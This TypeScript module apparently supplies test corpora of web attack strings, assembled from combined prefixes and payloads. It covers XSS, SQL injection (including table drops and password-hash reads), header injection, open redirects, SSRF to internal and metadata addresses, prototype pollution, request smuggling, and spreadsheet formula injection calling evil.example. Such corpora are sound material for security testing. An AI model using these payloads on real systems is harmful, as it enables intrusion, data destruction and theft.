/** Texts that attack, by what they attack. Most are made of a few parts each, in every combination. */

const each = <A, B>(as: readonly A[], bs: readonly B[], join: (a: A, b: B) => string): string[] =>
  as.flatMap((a) => bs.map((b) => join(a, b)))

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext></mtext><mglyph><style><!--</style><img src onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
]
const BREAK_OUT = ['', '"', "'", '-->', '</title>', '</script>']

const QUOTES = ["'", '"', "')", '")', '1', '1)', '%', "\\'"]
const QUERIES = [
  ' or 1=1',
  ' or 1=1 --',
  ' union select null, null, null --',
  '; drop table customer; --',
  '; update customer set email=0; --',
  ' and sleep(5) --',
  '; select pg_sleep(5); --',
  ' order by 99 --',
  " || (select password_hash from staff limit 1) || '",
  ' and 1=cast((select version()) as int) --',
  ' limit 0 offset 1; attach database "x" as y; --',
  '/**/or/**/1=1#',
  ' like "%',
  ' is not null; pragma writable_schema=1; --',
  '\u02bc or 1=1',
]

const BREAKS = ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u2029', '\u0085', '\v\r\n ']
const HEADERS = [
  'Set-Cookie: polluted=1',
  'Location: https://evil.example/',
  'Bcc: victim@evil.example',
  'Content-Type: text/html',
  '\r\n<h1>polluted</h1>',
]

const PLACES = ['evil.example', 'evil.example/%2f..', 'localhost@evil.example', 'evil。example']
const WAYS = [
  '//',
  '///',
  '\\\\',
  '/\\',
  'https://',
  'https:',
  'http:\\\\',
  '//%09/',
  '/%0d/',
  '\thttps://',
  'https://shop.test@',
  'https://shop.test.',
  'javascript://',
  '/.//',
  '//shop.test%40',
]

const INNER = [
  '127.0.0.1',
  '127.1',
  '0',
  '0x7f000001',
  '2130706433',
  '017700000001',
  'localhost',
  'localtest.me',
  '[::1]',
  '[::ffff:127.0.0.1]',
  '[0:0:0:0:0:ffff:7f00:1]',
  '169.254.169.254',
  '[fd00:ec2::254]',
  'metadata.google.internal',
  '10.0.0.1',
  '172.16.0.1',
  '192.168.0.1',
  '100.64.0.1',
  '①②⑦.⓪.⓪.①',
  '127.0.0.1.nip.io',
]
const SCHEMES = [
  'http://',
  'https://',
  'http://shop.test@',
  'http://shop.test#@',
  'gopher://',
  'file://',
  'ftp://',
  'dict://',
  '//',
  'http:',
]

const PROTOTYPES = each(
  ['__proto__', 'constructor', 'constructor.prototype', '__proto__.__proto__', 'prototype'],
  ['', '[polluted]=1', '.polluted', '{"polluted":1}', '\u0000', '[__proto__]'],
  (a, b) => a + b,
)

const SMUGGLED = each(
  ['GET /api/me HTTP/1.1', 'POST /api/auth/revoke HTTP/1.0', '0', 'G'],
  [
    '\r\n\r\n',
    '\r\nTransfer-Encoding: chunked\r\n\r\n',
    '\r\nContent-Length: 4\r\n\r\n',
    '\n\n',
    ' \r\n',
  ],
  (a, b) => `0\r\n\r\n${a}${b}`,
)

const FORMULAS = each(
  ['=', '+', '-', '@', '\t=', '\r='],
  [
    '1+1',
    'cmd|"/c calc"!A0',
    'HYPERLINK("https://evil.example")',
    'IMPORTXML("https://evil.example")',
  ],
  (a, b) => a + b,
)

export const CORPORA = {
  scripts: each(BREAK_OUT, SCRIPTS, (a, b) => a + b),
  queries: each(QUOTES, QUERIES, (a, b) => a + b),
  breaks: each(BREAKS, HEADERS, (a, b) => `x${a}${b}`),
  redirects: each(WAYS, PLACES, (a, b) => a + b),
  'inner addresses': each(SCHEMES, INNER, (a, b) => a + b),
  prototypes: PROTOTYPES,
  smuggling: SMUGGLED,
  formulas: FORMULAS,
} satisfies Record<string, readonly string[]>
